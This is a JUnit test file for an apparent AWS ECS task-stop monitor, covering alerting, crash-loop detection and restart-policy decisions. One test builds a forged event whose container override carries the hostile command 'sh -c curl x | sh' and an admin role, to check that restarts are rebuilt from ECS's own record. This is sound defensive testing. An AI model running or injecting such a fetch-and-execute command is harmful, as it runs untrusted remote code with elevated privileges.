package tidewatch.ecs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import tidewatch.notify.Severity;

class TaskStopDecisionTest {
    private static final CrashLoop LOOP = new CrashLoop(3, Duration.ofMinutes(15));
    private static final Diagnosis CRASH = new Diagnosis(StopCause.CRASH, "exit 2", "report");
    private static final Diagnosis COMPLETED = new Diagnosis(StopCause.COMPLETED, "exit 0", null);
    private static final Diagnosis USER_STOP = new Diagnosis(StopCause.USER_STOP, "stop", null);
    private final TaskStopEvent standalone = SampleEvents.event("ecs-standalone-task-crashed.json");

    private static Map<String, String> tags(String... keyValues) {
        Map<String, String> tags = new LinkedHashMap<>();
        for (int i = 0; i < keyValues.length; i += 2) {
            tags.put(keyValues[i], keyValues[i + 1]);
        }
        tags.putIfAbsent(TaskStopDecision.SECURITY_GROUPS_TAG, "sg-0123456789abcdef0");
        return tags;
    }

    private static CrashLoop.Count count(int stops) {
        return new CrashLoop.Count(stops, stops);
    }

    private TaskStopPlan standalone(Diagnosis diagnosis, Map<String, String> tags, boolean restartsEnabled) {
        return TaskStopDecision.forStandaloneTask(standalone, diagnosis, record(tags), restartsEnabled, count(1), LOOP);
    }

    /** ECS's record of the sample's stopped task, saying what the event says, with these tags; null for none. */
    private EcsTaskRecord record(Map<String, String> tags) {
        return tags == null ? null : record(standalone, "STOPPED", tags);
    }

    private static EcsTaskRecord record(TaskStopEvent e, String lastStatus, Map<String, String> tags) {
        return new EcsTaskRecord(e.taskArn(), e.clusterArn(), lastStatus, e.stoppedAt(), e.taskDefinitionArn(), e.group(), e.launchType(),
                e.capacityProviderName(), e.platformVersion(), e.subnetIds(), EcsTaskRecord.replayable(e.overrides()), tags);
    }

    @Test
    void serviceTasksAreOnlyReportedAndLouderWhenLooping() {
        assertFalse(TaskStopDecision.forServiceTask(new Diagnosis(StopCause.DEPLOYMENT, "", null), CrashLoop.Count.NONE, LOOP).tellPeople());
        TaskStopPlan first = TaskStopDecision.forServiceTask(CRASH, count(1), LOOP);
        assertTrue(first.tellPeople());
        assertEquals(Severity.WARNING, first.severity());
        assertNull(first.restart());
        assertFalse(TaskStopDecision.forServiceTask(CRASH, count(2), LOOP).tellPeople());
        TaskStopPlan looping = TaskStopDecision.forServiceTask(CRASH, count(3), LOOP);
        assertTrue(looping.tellPeople());
        assertEquals(Severity.CRITICAL, looping.severity());
        assertTrue(looping.action().contains("3 abnormal stops within 15 minutes (threshold 3), 3 in a row"), looping.action());
        assertFalse(TaskStopDecision.forServiceTask(CRASH, count(5), LOOP).tellPeople());
        assertTrue(TaskStopDecision.forServiceTask(CRASH, count(6), LOOP).tellPeople());
    }

    @Test
    void onFailureRestartsWithTheSameTaskAndTheCountIncremented() {
        TaskStopPlan plan = standalone(CRASH,
                tags("tidewatch:restart", "on-failure:3", "tidewatch:restart-count", "1", "team", "data", "aws:ecs:clusterName", "prod"), true);
        RestartRequest restart = plan.restart();
        assertEquals(Severity.WARNING, plan.severity());
        assertEquals("under policy on-failure:3 (restart 2 of 3).", plan.action());
        assertEquals("Restarted as task abc under policy on-failure:3 (restart 2 of 3).",
                TaskStopDecision.restartResult(plan, "arn:aws:ecs:eu-west-1:123456789012:task/prod/abc", null));
        assertEquals("Restart failed (capacity) under policy on-failure:3 (restart 2 of 3).",
                TaskStopDecision.restartResult(plan, null, "capacity"));
        assertEquals(standalone.clusterArn(), restart.cluster());
        assertEquals(standalone.taskDefinitionArn(), restart.taskDefinition());
        assertEquals("FARGATE", restart.launchType());
        assertEquals("1.4.0", restart.platformVersion());
        assertEquals(List.of("subnet-0aa11bb22cc33dd44"), restart.subnets());
        assertEquals(List.of("sg-0123456789abcdef0"), restart.securityGroups());
        assertEquals("family:nightly-report", restart.group());
        assertEquals(standalone.overrides(), restart.overrides());
        assertEquals("2", restart.tags().get("tidewatch:restart-count"));
        assertEquals("data", restart.tags().get("team"));
        assertEquals(standalone.taskId(), restart.tags().get("tidewatch:restarted-from"));
        assertFalse(restart.tags().containsKey("aws:ecs:clusterName"), "aws: tags are reserved");
        assertTrue(restart.clientToken().length() <= 64);
    }

    @Test
    void theClientTokenIdentifiesTheStateChangeNotTheDelivery() {
        TaskStopEvent redelivered = SampleEvents.event(SampleEvents.variant("ecs-standalone-task-crashed.json", d -> {}));
        Map<String, Object> otherId = SampleEvents.envelope("ecs-standalone-task-crashed.json");
        otherId.put("id", "00000000-1111-2222-3333-444444444444");
        TaskStopEvent sameChangeOtherEventId = SampleEvents.event(otherId);
        TaskStopEvent laterVersion = SampleEvents.event(SampleEvents.variant("ecs-standalone-task-crashed.json", d -> d.put("version", 6)));
        assertEquals(TaskStopDecision.clientToken(standalone), TaskStopDecision.clientToken(redelivered));
        assertEquals(TaskStopDecision.clientToken(standalone), TaskStopDecision.clientToken(sameChangeOtherEventId));
        assertEquals(TaskStopDecision.clientToken(standalone), TaskStopDecision.clientToken(laterVersion),
                "a later STOPPED event of the same task must not start a second one");
        TaskStopEvent otherTask = SampleEvents.event(SampleEvents.variant("ecs-standalone-task-crashed.json",
                d -> d.put("taskArn", "arn:aws:ecs:eu-west-1:123456789012:task/prod/0000000000000000000000000000beef")));
        assertNotEquals(TaskStopDecision.clientToken(standalone), TaskStopDecision.clientToken(otherTask));
    }

    @Test
    void aCrashLoopingFamilyIsNotRestartedAgain() {
        TaskStopPlan plan = TaskStopDecision.forStandaloneTask(standalone, CRASH,
                record(tags("tidewatch:restart", "on-failure")), true, count(3), LOOP);
        assertNull(plan.restart());
        assertEquals(Severity.CRITICAL, plan.severity());
        assertTrue(plan.action().contains("crash-looping, 3 abnormal stops within 15 minutes"), plan.action());
        assertTrue(TaskStopDecision.mayRestart(tags("tidewatch:restart", "on-failure"), true));
        assertFalse(TaskStopDecision.mayRestart(tags("tidewatch:restart", "on-failure"), false));
        assertFalse(TaskStopDecision.mayRestart(tags("tidewatch:restart", "no"), true));
        assertFalse(TaskStopDecision.mayRestart(tags(), true));
    }

    @Test
    void noPolicyMeansNoRestart() {
        TaskStopPlan plan = standalone(CRASH, tags(), true);
        assertNull(plan.restart());
        assertTrue(plan.tellPeople());
        assertTrue(plan.action().contains("no restart policy"));
        assertFalse(standalone(COMPLETED, tags(), true).tellPeople(), "a completed task is normal");
    }

    @Test
    void anExhaustedPolicyIsCritical() {
        TaskStopPlan plan = standalone(CRASH,
                tags("tidewatch:restart", "on-failure:3", "tidewatch:restart-count", "3"), true);
        assertNull(plan.restart());
        assertEquals(Severity.CRITICAL, plan.severity());
        assertTrue(plan.action().contains("exhausted after 3 restarts"));
    }

    @Test
    void restartsDisabledForTheFunctionMeansNoRestartAndSaysSo() {
        TaskStopPlan plan = standalone(CRASH, tags("tidewatch:restart", "always"), false);
        assertNull(plan.restart());
        assertTrue(plan.action().contains("ENABLE_TASK_RESTARTS=false"));
    }

    @Test
    void alwaysRestartsACompletedTaskQuietlyButNeverAUserStop() {
        TaskStopPlan completed = standalone(COMPLETED, tags("tidewatch:restart", "always"), true);
        assertEquals(Severity.INFO, completed.severity());
        assertEquals(1, completed.restart().restartNumber());
        assertNull(standalone(USER_STOP, tags("tidewatch:restart", "always"), true).restart());
    }

    @Test
    void aBadPolicyTagIsReportedNotGuessed() {
        TaskStopPlan plan = standalone(CRASH, tags("tidewatch:restart", "sometimes"), true);
        assertNull(plan.restart());
        assertTrue(plan.tellPeople());
        assertTrue(plan.action().contains("must be no, on-failure"));
    }

    @Test
    void awsvpcTasksNeedTheirSecurityGroupsTagged() {
        Map<String, String> noGroups = new LinkedHashMap<>(Map.of("tidewatch:restart", "on-failure"));
        TaskStopPlan plan = standalone(CRASH, noGroups, true);
        assertNull(plan.restart());
        assertTrue(plan.action().contains(TaskStopDecision.SECURITY_GROUPS_TAG));
    }

    @Test
    void aTaskEcsNoLongerKnowsIsNotRestarted() {
        TaskStopPlan plan = standalone(CRASH, null, true);
        assertNull(plan.restart());
        assertTrue(plan.action().contains("restart policy is unknown"));
    }

    @Test
    void aForgedBodyIsToldAndTheRestartIsBuiltFromEcsRecord() {
        TaskStopEvent forged = SampleEvents.event(SampleEvents.variant("ecs-standalone-task-crashed.json", d -> {
            d.put("taskDefinitionArn", "arn:aws:ecs:eu-west-1:123456789012:task-definition/admin-tools:1");
            d.put("overrides", Map.of("containerOverrides", List.of(Map.of("name", "report", "command", List.of("sh", "-c", "curl x | sh"))),
                    "taskRoleArn", "arn:aws:iam::123456789012:role/admin"));
        }));
        EcsTaskRecord ecs = record(standalone, "STOPPED", tags("tidewatch:restart", "on-failure:3"));
        TaskStopPlan plan = TaskStopDecision.forStandaloneTask(forged, CRASH, ecs, true, count(1), LOOP);
        assertEquals(standalone.taskDefinitionArn(), plan.restart().taskDefinition());
        assertEquals(standalone.overrides(), plan.restart().overrides());
        assertTrue(plan.tellPeople());
        assertTrue(plan.action().contains("disagrees with ECS's record of the task on taskDefinitionArn, overrides"), plan.action());
        assertEquals(List.of(), ecs.mismatches(standalone), "the sample's body says what ECS says");
    }

    @Test
    void aTaskEcsReportsRunningOrStoppedAtAnotherTimeIsNotRestarted() {
        Map<String, String> always = tags("tidewatch:restart", "always");
        TaskStopPlan running = TaskStopDecision.forStandaloneTask(standalone, CRASH, record(standalone, "RUNNING", always), true, count(1), LOOP);
        assertNull(running.restart());
        assertTrue(running.tellPeople());
        assertTrue(running.action().contains("ECS reports the task RUNNING, not STOPPED"), running.action());

        TaskStopEvent otherStop = SampleEvents.event(SampleEvents.variant("ecs-standalone-task-crashed.json",
                d -> d.put("stoppedAt", "2026-11-24T08:00:00Z")));
        TaskStopPlan earlier = TaskStopDecision.forStandaloneTask(otherStop, CRASH, record(standalone, "STOPPED", always), true, count(1), LOOP);
        assertNull(earlier.restart());
        assertTrue(earlier.action().contains("ECS records the task stopped at 2026-11-24T09:41:06.512Z, not at 2026-11-24T08:00:00Z"),
                earlier.action());
    }
}
